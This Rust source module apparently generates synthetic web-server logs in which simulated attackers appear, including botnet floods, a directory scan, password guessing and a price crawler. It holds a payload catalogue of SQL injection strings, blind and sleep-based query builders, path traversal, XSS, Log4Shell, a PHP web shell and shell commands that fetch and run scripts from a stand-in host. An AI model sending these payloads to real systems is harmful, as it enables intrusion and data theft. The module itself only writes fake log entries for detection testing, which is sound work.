//! Attackers: floods, injection tools, scanners, password guessers. The payloads are textbook ones,
//! written for these stories.

use super::agents;
use super::clock::{Millis, SECOND};
use super::rng::Rng;
use super::story::{Answer, Story, Who};
use super::writers::encode;

/// A herd of remote-controlled machines.
pub struct Botnet {
    pub addresses: Vec<String>,
    pub agents: Vec<&'static str>,
}

/// The few user agents that a flood tool carries with it.
pub const FLOOD_AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:68.0) Gecko/20100101 Firefox/68.0",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
];

/// What a hand-driven sqlmap calls itself.
pub const SQLMAP_AGENT: &str = "sqlmap/1.5.8#stable (https://sqlmap.org)";

impl Botnet {
    /// Requests for `targets`, `per_minute` of them, each answered as `answer` says.
    pub fn flood(
        &self,
        story: &mut Story,
        span: (Millis, Millis),
        per_minute: f64,
        targets: &[String],
        answer: impl Fn(&mut Rng, Millis) -> Answer,
    ) {
        for at in story.moments(span.0, span.1, per_minute) {
            let address = &self.addresses[story.rng.skewed(self.addresses.len())];
            let agent = self.agents[story.rng.skewed(self.agents.len())];
            let target = &targets[story.rng.skewed(targets.len())];
            let given = answer(&mut story.rng, at);
            let who = Who {
                client: address,
                agent,
            };
            story.get(at, who, target, given);
        }
    }
}

/// Statements that ask whether a parameter can be injected: quotes, tautologies, sorting.
pub const SQL_PROBES: [&str; 12] = [
    "17'",
    "17\"",
    "17')",
    "17 AND 1=1",
    "17 AND 1=2",
    "17' OR '1'='1",
    "17 OR 1=1-- -",
    "17 ORDER BY 5-- -",
    "17 ORDER BY 9-- -",
    "17' AND 'a'='b",
    "17;SELECT 1",
    "17 AND (SELECT COUNT(*) FROM users)>0",
];

/// What a tool asks when it extracts character by character, with a place for position and guess.
pub fn blind(position: u64, guess: u64) -> String {
    format!("17 AND ORD(MID((SELECT IFNULL(CAST(DATABASE() AS NCHAR),0x20)),{position},1))>{guess}")
}

/// A statement that makes the database sleep.
pub fn sleeping(rng: &mut Rng) -> String {
    let seconds = rng.between(3, 9);
    let item = rng.between(1, 90);
    match rng.below(4) {
        0 => format!("{item} AND SLEEP({seconds})"),
        1 => format!("{item}' AND (SELECT 1 FROM (SELECT SLEEP({seconds}))x)-- -"),
        2 => format!("{item} OR IF(1=1,SLEEP({seconds}),0)"),
        _ => format!("{item} AND BENCHMARK({seconds}000000,MD5(0x41))"),
    }
}

/// A UNION that finds the number of columns.
pub fn union_columns(count: u64) -> String {
    let nulls = vec!["NULL"; count as usize].join(",");
    format!("-1 UNION ALL SELECT {nulls}-- -")
}

/// A UNION that reads rows of a table, `offset` rows on.
pub fn union_rows(table: &str, columns: &str, offset: u64) -> String {
    format!(
        "-1 UNION ALL SELECT NULL,CONCAT_WS(0x3a,{columns}),NULL,NULL,NULL FROM {table} LIMIT {offset},50-- -"
    )
}

/// Directory names that a scanner tries.
const WORDLIST: [&str; 40] = [
    "admin",
    "backup",
    "old",
    "test",
    "dev",
    "tmp",
    "logs",
    "db",
    "sql",
    "config",
    "private",
    "cgi-bin",
    "phpmyadmin",
    "server-status",
    ".git/HEAD",
    ".svn/entries",
    ".env",
    "web.config",
    "backup.zip",
    "backup.sql",
    "dump.sql",
    "site.tar.gz",
    "config.php.bak",
    "wp-admin",
    "install",
    "setup.php",
    "info.php",
    "phpinfo.php",
    "console",
    "manager/html",
    "api/swagger.json",
    ".htpasswd",
    ".DS_Store",
    "id_rsa",
    "users.csv",
    "debug",
    "shell.php",
    "upload",
    "include",
    "lib",
];

/// A directory scan by one client: a word every few hundred milliseconds.
pub fn directory_scan(story: &mut Story, who: Who, start: Millis, rounds: usize) {
    let mut at = start;
    for round in 0..rounds {
        for word in WORDLIST {
            let target = match round {
                0 => format!("/{word}"),
                n => format!("/{word}{n}"),
            };
            let status = if story.rng.chance(0.04) { 403 } else { 404 };
            let took = story.rng.between(3, 20);
            story.get(at, who, &target, Answer(status, 4_120, took));
            at += story.rng.between(150, 900);
        }
    }
}

/// Requests that show every kind of attack, as a tool would send them: category and target. Used
/// where attacks of all kinds are strewn over ordinary traffic.
pub fn samples() -> Vec<String> {
    let item = |value: &str| format!("/item.php?no={}", encode(value));
    let page = |value: &str| format!("/index.php?page={}", encode(value));
    let mut samples: Vec<String> = SQL_PROBES[1..].iter().map(|probe| item(probe)).collect();
    samples.extend((1..9).map(|count| item(&union_columns(count))));
    samples.extend((1..9).map(|position| item(&blind(position, 64))));
    samples.extend(PATH_PAYLOADS.iter().map(|payload| page(payload)));
    samples.extend(
        VALUE_PAYLOADS
            .iter()
            .map(|payload| format!("/find.php?term={}", encode(payload))),
    );
    samples.extend(WHOLE_TARGETS.iter().map(|target| (*target).to_owned()));
    samples
}

const PATH_PAYLOADS: [&str; 9] = [
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index",
    "http://files.example/shell.txt?",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
    "file:///etc/shadow",
    "http://169.254.169.254/latest/meta-data/",
];

const VALUE_PAYLOADS: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=confirm(1)>",
    "javascript:alert(1)//",
    ";cat /etc/passwd",
    "|id",
    "$(curl http://files.example/x.sh|sh)",
    "`wget http://files.example/a -O /tmp/a`",
    "${jndi:ldap://files.example/a}",
    "{{7*7}}",
    "${{config.items()}}",
    "*)(uid=*))(|(uid=*",
    "' or count(//user)>0 or 'a'='b",
    "<!--#exec cmd=\"ls\" -->",
    "x\r\nSet-Cookie: session=1",
    "<?php system($_GET['c']); ?>",
];

const WHOLE_TARGETS: [&str; 12] = [
    "/.git/config",
    "/.env",
    "/wp-content/plugins/old/shell.php?cmd=id",
    "/c99.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/api/users?name[$ne]=x&pass[$gt]=",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/login?next=//evil.example/%2f..",
    "/?q=%253Cscript%253Ealert(1)%253C/script%253E",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array",
    "/struts/hello.action?redirect:${%23a=1}",
];

/// Password guesses against one form: `per_minute` posts in turn from each address.
pub fn guess_passwords(
    story: &mut Story,
    addresses: &[String],
    span: (Millis, Millis),
    per_minute: f64,
) {
    let agent = "python-requests/2.28.1";
    let login = story.shop.login();
    for at in story.moments(span.0, span.1, per_minute) {
        let client = story.rng.pick(addresses).clone();
        let who = Who {
            client: &client,
            agent,
        };
        let took = story.rng.between(160, 240);
        let bytes = 5_310;
        story.ask(at, who, "POST", login, "-", Answer(401, bytes, took));
    }
}

/// An honest but greedy crawler: every item in turn, no pictures, no pauses.
pub fn crawl(story: &mut Story, clients: &[String], span: (Millis, Millis), gap: Millis) {
    let mut at = span.0;
    let mut number = 0;
    while at < span.1 {
        let client = clients[number % clients.len()].clone();
        let who = Who {
            client: &client,
            agent: agents::PRICE_CRAWLER,
        };
        let target = match number {
            0 => "/robots.txt".to_owned(),
            _ if number % 12 == 0 => story.shop.category(number / 12),
            _ => story.shop.item(number % story.shop.items),
        };
        let took = story.rng.between(60, 180);
        let bytes = super::shop::page_bytes(&mut story.rng, &target);
        story.get(at, who, &target, Answer(200, bytes, took));
        number += 1;
        at += gap + story.rng.between(-gap / 4, gap / 4).min(SECOND);
    }
}
